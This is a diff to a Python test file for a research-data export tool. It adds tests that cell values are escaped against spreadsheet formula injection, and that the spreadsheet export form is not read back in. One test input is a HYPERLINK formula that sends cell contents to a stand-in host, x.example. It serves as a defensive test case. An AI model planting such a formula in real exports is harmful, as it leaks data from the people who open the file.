@@ -1,5 +1,6 @@
 """A study's records out and in again: the same bytes, the same report, from any database, while collection goes on."""
 
+import codecs
 import csv
 import hashlib
 import io
@@ -19,7 +20,7 @@ from typer.testing import CliRunner
 
 from evenhand.cli.main import app
 from evenhand.errors import InvalidSettings, PackageMissing, Refused
-from evenhand.exchange import archive, codebook, export
+from evenhand.exchange import archive, codebook, export, table_files
 from evenhand.exchange.archive import Package
 from evenhand.lab.lab import Lab
 from evenhand.model.study import Budget, Study
@@ -79,6 +80,46 @@ def test_out_and_in_and_out_again_gives_the_same_bytes(
     assert archive.read(first) == renumbered(second.studies.archive(brought.id, "live"))
     assert write(lab, study, tmp_path / "folder", form=form).is_dir()
     assert archive.read(tmp_path / "folder") == archive.read(first)
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+        ("+49 30 1234", "'+49 30 1234"),
+        ("-", "'-"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("-0.5", "-0.5"),
+        ("+1e-3", "+1e-3"),
+        ("a = b", "a = b"),
+        ("", ""),
+    ],
+)
+def test_no_text_is_a_formula_in_a_spreadsheet(typed: str, shown: str) -> None:
+    assert table_files.without_formula(typed) == shown
+
+
+@pytest.mark.slow
+def test_the_form_for_spreadsheets_says_its_code_and_is_not_read_back(lab_and_clock: tuple[Lab, Clock], tmp_path: Path) -> None:
+    lab, clock = lab_and_clock
+    study = rich(lab, clock)
+    exact, shown = (write(lab, study, tmp_path / f"{form}.zip", form=form) for form in ("csv", "spreadsheet"))
+    with zipfile.ZipFile(exact) as first, zipfile.ZipFile(shown) as second:
+        tables = [name for name in second.namelist() if name.endswith(".csv")]
+        assert tables == [name for name in first.namelist() if name.endswith(".csv")]
+        for name in tables:
+            assert second.read(name).startswith(codecs.BOM_UTF8)
+            exactly = [[table_files.without_formula(text) for text in row] for row in rows_of(first, name)]
+            assert rows_of(second, name) == exactly
+        assert any(text.startswith("'=one") for row in rows_of(second, "answers.csv") for text in row)
+    with pytest.raises(InvalidSettings, match="tables for spreadsheets, which are not read back; export the study as csv, too"):
+        archive.read(shown)
+
+
+def rows_of(folder: zipfile.ZipFile, name: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(folder.read(name).decode("utf-8-sig"), newline="")))
 
 
 def test_a_session_that_was_extended_comes_back_with_its_earlier_choice(
